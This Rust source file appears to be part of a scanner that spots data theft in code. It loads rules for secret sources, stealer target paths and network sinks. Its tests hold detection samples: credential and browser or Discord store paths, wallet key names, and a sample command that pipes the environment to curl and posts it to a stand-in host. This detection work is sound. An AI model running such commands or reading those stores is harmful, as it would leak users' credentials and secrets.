//! The facts of the flows pass, from `rules/flows.toml`: sources, sinks and
//! host classes, by qualified name. Embedded at build time, compiled once.

use rustc_hash::FxHashMap as HashMap;
use std::sync::OnceLock;

use crate::scan::words::LazyRegex as Regex;
use serde::Deserialize;

/// The facts file, embedded (its text is part of the rules version).
pub const TEXT: &str = include_str!("../../../rules/flows.toml");

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Wire {
    sources: SourcesWire,
    sinks: SinksWire,
    hosts: HostsWire,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct SourcesWire {
    environment: Vec<String>,
    named_env: Vec<String>,
    secret_names: String,
    host_names: String,
    host_info: Vec<String>,
    clipboard: Vec<String>,
    screen: Vec<String>,
    credential_paths: String,
    store_paths: String,
    store_calls: Vec<String>,
    wallet_params: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct SinksWire {
    http: Vec<String>,
    socket: Vec<String>,
    mail: Vec<String>,
    ftp: Vec<String>,
    dns: Vec<String>,
    messaging: Vec<String>,
    command: Vec<String>,
    command_sources: String,
    command_tools: String,
    network_modules: Vec<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct HostsWire {
    local: String,
}

/// What a source call yields.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SourceCall {
    /// One named environment variable (the first argument).
    NamedEnv,
    /// Host or user details.
    HostInfo,
    /// The clipboard.
    Clipboard,
    /// The screen.
    Screen,
    /// A decrypted browser or system secret.
    Store,
}

/// The compiled facts.
pub struct Facts {
    /// Names that are the whole environment.
    pub environment: Vec<String>,
    /// Source calls by qualified name.
    pub source_calls: HashMap<String, SourceCall>,
    /// Secret-looking variable names.
    pub secret_names: Regex,
    /// Host- and user-identifying variable names.
    pub host_names: Regex,
    /// Paths of credentials tools authenticate with.
    pub credential_paths: Regex,
    /// Paths of what only stealers read.
    pub store_paths: Regex,
    /// Parameter names of wallet secrets.
    pub wallet_params: Regex,
    /// Sink calls by qualified name, to their kind (`http`, `socket`...).
    pub sinks: HashMap<String, &'static str>,
    /// What a command line sends by itself.
    pub command_sources: Regex,
    /// Network tools in a command line.
    pub command_tools: Regex,
    /// Prefixes of calls that talk to the network (`socket.`, `requests.`).
    pub network_modules: Vec<String>,
    /// Hosts of this machine.
    pub local: Regex,
}

fn load() -> Result<Facts, String> {
    let w: Wire = toml::from_str(TEXT).map_err(|e| format!("rules/flows.toml: {e}"))?;
    let mut source_calls = HashMap::default();
    for (names, kind) in [
        (&w.sources.named_env, SourceCall::NamedEnv),
        (&w.sources.host_info, SourceCall::HostInfo),
        (&w.sources.clipboard, SourceCall::Clipboard),
        (&w.sources.screen, SourceCall::Screen),
        (&w.sources.store_calls, SourceCall::Store),
    ] {
        for n in names {
            source_calls.insert(n.clone(), kind);
        }
    }
    let mut sinks = HashMap::default();
    for (names, kind) in [
        (&w.sinks.http, "http"),
        (&w.sinks.socket, "socket"),
        (&w.sinks.mail, "mail"),
        (&w.sinks.ftp, "ftp"),
        (&w.sinks.dns, "dns"),
        (&w.sinks.messaging, "messaging"),
        (&w.sinks.command, "command"),
    ] {
        for n in names {
            sinks.insert(n.clone(), kind);
        }
    }
    Ok(Facts {
        environment: w.sources.environment,
        source_calls,
        secret_names: Regex::new(&w.sources.secret_names),
        host_names: Regex::new(&w.sources.host_names),
        credential_paths: Regex::new(&w.sources.credential_paths),
        store_paths: Regex::new(&w.sources.store_paths),
        wallet_params: Regex::new(&w.sources.wallet_params),
        sinks,
        command_sources: Regex::new(&w.sinks.command_sources),
        command_tools: Regex::new(&w.sinks.command_tools),
        network_modules: w.sinks.network_modules,
        local: Regex::new(&w.hosts.local),
    })
}

/// The facts, compiled once; an error names the file and the entry.
pub fn facts() -> Result<&'static Facts, &'static str> {
    static FACTS: OnceLock<Result<Facts, String>> = OnceLock::new();
    FACTS
        .get_or_init(load)
        .as_ref()
        .map_err(std::string::String::as_str)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_facts_file_loads_and_classifies() {
        let f = facts().expect("rules/flows.toml");
        assert!(f.secret_names.is_match(b"AWS_SECRET_ACCESS_KEY"));
        assert!(f.secret_names.is_match(b"discord_token"));
        assert!(!f.secret_names.is_match(b"PATH"));
        assert!(f.host_names.is_match(b"USERNAME"));
        assert!(f.credential_paths.is_match(b"~/.ssh/id_rsa"));
        assert!(
            f.store_paths
                .is_match(b"Google/Chrome/User Data/Default/Login Data")
        );
        assert!(
            f.store_paths
                .is_match(b"\\discord\\Local Storage\\leveldb\\")
        );
        assert!(!f.store_paths.is_match(b"Cookies"));
        assert!(f.wallet_params.is_match(b"private_key"));
        assert!(f.wallet_params.is_match(b"mnemonic"));
        assert!(!f.wallet_params.is_match(b"api_key"));
        assert!(!f.credential_paths.is_match(b"setup.cfg"));
        assert!(f.command_tools.is_match(b"curl -d @- https://x"));
        assert!(!f.command_tools.is_match(b"git describe"));
        assert!(
            f.command_sources
                .is_match(b"printenv | curl -d @- https://x")
        );
        assert!(!f.command_sources.is_match(b"git describe --tags"));
        assert!(f.local.is_match(b"http://127.0.0.1:8080/x"));
        assert!(!f.local.is_match(b"https://10.1.2.3/x"));
        assert_eq!(f.sinks.get("requests.post"), Some(&"http"));
        assert!(f.network_modules.iter().any(|m| m == "socket."));
        assert_eq!(
            f.source_calls.get("socket.gethostname"),
            Some(&SourceCall::HostInfo)
        );
    }
}
